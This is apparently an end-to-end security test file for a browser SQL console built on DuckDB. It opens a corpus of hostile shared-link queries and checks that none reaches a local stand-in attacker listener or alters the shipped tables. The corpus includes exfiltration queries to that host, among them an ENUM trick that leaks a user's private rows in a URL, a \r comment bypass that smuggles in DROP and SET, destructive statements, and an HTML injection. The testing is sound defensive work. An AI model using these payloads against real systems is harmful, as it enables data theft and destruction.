import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeSql } from './pages';
import { e2eSuite } from './suite';

/*
 * Hostile /sql links, each opened and then run, with a listener on another loopback address that
 * counts every request reaching it: zero may. After each, the shipped tables still answer, and a
 * view reached from the console still draws from them.
 */

const { base, browser, watch, expectCleanRun } = e2eSuite();

interface Listener {
	server: Server;
	origin: string;
	hits: string[];
}

async function listen(
	host: string,
	answer: (req: IncomingMessage) => { status: number; headers: object; body: Buffer | string }
): Promise<Listener> {
	const hits: string[] = [];
	const server = createServer((req, res) => {
		hits.push(`${req.method} ${req.url}`);
		const { status, headers, body } = answer(req);
		res.writeHead(status, { 'access-control-allow-origin': '*', ...headers }).end(body);
	});
	await new Promise<void>((done) => server.listen(0, host, done));
	const { port } = server.address() as { port: number };
	return { server, origin: `http://${host}:${port}`, hits };
}

let evil: Listener;
let dataHost: Listener;
const parquet = readFileSync('static/data/countries.parquet');

beforeAll(async () => {
	evil = await listen('127.0.0.2', () => ({ status: 200, headers: {}, body: 'a\n1\n' }));
	dataHost = await listen('127.0.0.3', (req) => {
		const range = /bytes=(\d+)-(\d*)/.exec(req.headers.range ?? '');
		const headers = {
			'access-control-expose-headers': 'content-length, content-range',
			'access-control-allow-headers': 'range',
			'content-length': parquet.length
		};
		if (req.method === 'HEAD') return { status: 200, headers, body: '' };
		if (!range) return { status: 200, headers, body: parquet };
		const start = Number(range[1]);
		const end = range[2] ? Number(range[2]) : parquet.length - 1;
		return {
			status: 206,
			headers: {
				...headers,
				'content-length': end - start + 1,
				'content-range': `bytes ${start}-${end}/${parquet.length}`
			},
			body: parquet.subarray(start, end + 1)
		};
	});
});
afterAll(() => {
	evil?.server.close();
	dataHost?.server.close();
});

const EVIL = () => evil.origin;
/** The corpus: each is opened as a link, then run. */
const corpus: [name: string, sql: () => string][] = [
	['read_text over HTTP', () => `SELECT * FROM read_text('${EVIL()}/x')`],
	['read_csv over HTTP', () => `SELECT * FROM read_csv('${EVIL()}/x.csv')`],
	['a bare URL as a table', () => `SELECT * FROM '${EVIL()}/x.csv'`],
	['read_parquet over HTTP', () => `SELECT * FROM read_parquet('${EVIL()}/x.parquet')`],
	['glob over HTTP', () => `SELECT * FROM glob('${EVIL()}/*')`],
	[
		'read_json and read_blob',
		() => `SELECT * FROM read_json('${EVIL()}/j'), read_blob('${EVIL()}/b')`
	],
	[
		'results carried by an ENUM into a URL',
		() =>
			`CREATE TYPE leak AS ENUM (SELECT DISTINCT country FROM countries); SELECT * FROM read_text('${EVIL()}/' || array_to_string(enum_range(NULL::leak), '-'))`
	],
	['the \\r comment bypass: DROP', () => 'SELECT 1 --\r; DROP TABLE observations; SELECT 2'],
	[
		'the \\r comment bypass: SET and read',
		() =>
			`SELECT 1 --\r; SET enable_external_access = true; SELECT * FROM read_text('${EVIL()}/set')`
	],
	[
		'the \\r comment bypass: INSTALL from a chosen repository',
		() => `SELECT 1 --\r; INSTALL httpfs FROM '${EVIL()}/repo'; LOAD httpfs`
	],
	['ATTACH over HTTP', () => `SELECT 1 --\r; ATTACH '${EVIL()}/db.duckdb' AS other`],
	['COPY to a URL', () => `COPY (SELECT * FROM countries) TO '${EVIL()}/out.csv'`],
	['a chosen extension repository', () => `SET custom_extension_repository = '${EVIL()}/r'`],
	[
		'a protocol-relative URL in a dollar quote',
		() => `SELECT * FROM read_text($$//${EVIL().slice(7)}/dollar$$)`
	],
	['DROP after a nested comment', () => '/* /* */ ; */ DROP TABLE countries'],
	['DELETE through a CTE', () => 'WITH x AS (SELECT 1) DELETE FROM main.observations'],
	['ALTER by a quoted name', () => 'ALTER TABLE "Observations" RENAME TO gone'],
	['a shadowing temp view', () => 'CREATE TEMP VIEW indicators AS SELECT 1 AS x'],
	['DROP SCHEMA main', () => 'DROP SCHEMA main CASCADE'],
	['DETACH the database', () => 'DETACH memory'],
	[
		'HTML in a result',
		() => `SELECT '<img src="${EVIL()}/img" onerror="fetch(1)">' AS "<script>x</script>"`
	]
];

const finishedRuns = (page: Page) =>
	page.getAttribute('[data-testid=run]', 'data-runs').then((n) => Number(n));

async function open(context: BrowserContext, sql: string): Promise<Page> {
	const { page } = await watch(context);
	await page.goto(`${base}sql/?${new URLSearchParams({ q: sql })}`);
	await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 60_000 });
	await page.waitForSelector('[data-testid=sql-editor][data-ready=true]');
	return page;
}

async function pressRun(page: Page): Promise<void> {
	const before = await finishedRuns(page);
	await page.click('[data-testid=run]');
	await page.waitForFunction(
		(n) => Number(document.querySelector('[data-testid=run]')?.getAttribute('data-runs')) > n,
		before
	);
}

const CHECK =
	'SELECT (SELECT count(*) FROM observations) + (SELECT count(*) FROM countries) + (SELECT count(*) FROM indicators) AS n';

/** The shipped tables' row count, through the console, on a page that has run the link. */
async function shippedRows(page: Page): Promise<number> {
	await writeSql(page, CHECK);
	await pressRun(page);
	const error = await page.$('[data-testid=sql-error]');
	if (error) throw new Error(`The check failed: ${await error.textContent()}`);
	return Number(await page.textContent('[data-testid=sql-result] td'));
}

describe('hostile links', () => {
	let expected = 0;

	it('knows the shipped tables’ size', async () => {
		const context = await browser().newContext();
		const page = await open(context, CHECK);
		await page.waitForSelector('[data-testid=sql-result] td');
		expected = Number(await page.textContent('[data-testid=sql-result] td'));
		expect(expected).toBeGreaterThan(20_000);
		await context.close();
	});

	for (const [name, sql] of corpus)
		it(`${name}: reaches no other host and changes no shipped table`, async () => {
			const context = await browser().newContext();
			const page = await open(context, sql());
			await pressRun(page);
			expect(await page.$('[data-testid=sql-result] img')).toBeNull();
			expect(await shippedRows(page)).toBe(expected);
			expect(evil.hits).toEqual([]);
			await context.close();
		});

	it('keeps the visitor’s own rows in the browser when a crafted link is run', async () => {
		const context = await browser().newContext();
		const page = await open(context, 'SELECT 1');
		await page.check('text=Keep my files in this browser');
		await page.setInputFiles('[data-testid=user-file]', {
			name: 'private.csv',
			mimeType: 'text/csv',
			buffer: Buffer.from('secret\nS3CRET-ROW\n')
		});
		await page.waitForSelector('[data-testid=user-table]');
		const leak = `CREATE TYPE mine AS ENUM (SELECT secret FROM private); SELECT * FROM read_text('${EVIL()}/' || array_to_string(enum_range(NULL::mine), ','))`;
		await page.goto(`${base}sql/?${new URLSearchParams({ q: leak })}`);
		await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 60_000 });
		await page.waitForSelector('[data-testid=user-table]');
		expect(await page.textContent('[data-testid=notice]')).toContain(evil.origin.slice(7));
		await pressRun(page);
		expect(await page.textContent('[data-testid=sql-error]')).toMatch(/disabled|permission/i);
		expect(evil.hits).toEqual([]);
		await page.click('[data-testid=forget]');
		await context.close();
	});

	it('after every link, the views still answer from the shipped tables', async () => {
		const context = await browser().newContext();
		const page = await open(context, 'SELECT 1 --\r; DROP TABLE observations; SELECT 2');
		await pressRun(page);
		await page.click('header a[href$="explore/"]');
		await page.waitForSelector('.chart[data-live=true] svg', { timeout: 60_000 });
		expect(await page.locator('.chart[data-live=true] svg').count()).toBeGreaterThan(0);
		expect(await page.$('[role=alert]')).toBeNull();
		expect(evil.hits).toEqual([]);
		await context.close();
	});

	it('fetches a remote Parquet file only after the user presses Load, under the policy', async () => {
		const url = `${dataHost.origin}/countries.parquet`;
		const context = await browser().newContext();
		// Not a watched page: its requests to the data host are the point, not a leak.
		const page = await context.newPage();
		const errors: string[] = [];
		await page.addInitScript(() =>
			document.addEventListener('securitypolicyviolation', (e) =>
				console.error(`securitypolicyviolation: ${e.violatedDirective}`)
			)
		);
		page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
		await page.goto(`${base}sql/?${new URLSearchParams({ q: `SELECT * FROM '${url}'` })}`);
		await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 60_000 });
		await page.waitForSelector('[data-testid=sql-editor][data-ready=true]');
		expect(await page.textContent('[data-testid=notice]')).toContain(dataHost.origin.slice(7));
		expect(await page.inputValue('[data-testid=remote-url]')).toBe(url);
		expect(dataHost.hits).toEqual([]);
		await page.fill('[data-testid=remote-table]', 'theirs');
		await page.click('[data-testid=remote-load]');
		await page.waitForSelector('[data-testid=remote-report]', { timeout: 60_000 });
		expect(dataHost.hits.length).toBeGreaterThan(0);
		await writeSql(page, 'SELECT count(*) FROM theirs');
		await pressRun(page);
		expect(Number(await page.textContent('[data-testid=sql-result] td'))).toBeGreaterThan(100);
		expect(errors).toEqual([]);
		await context.close();
	});

	it('reached the listener zero times in all', () => {
		expect(corpus.length).toBeGreaterThanOrEqual(20);
		expect(evil.hits).toEqual([]);
	});
});

describe('hostile links, clean run', () => {
	expectCleanRun(corpus.length);
});
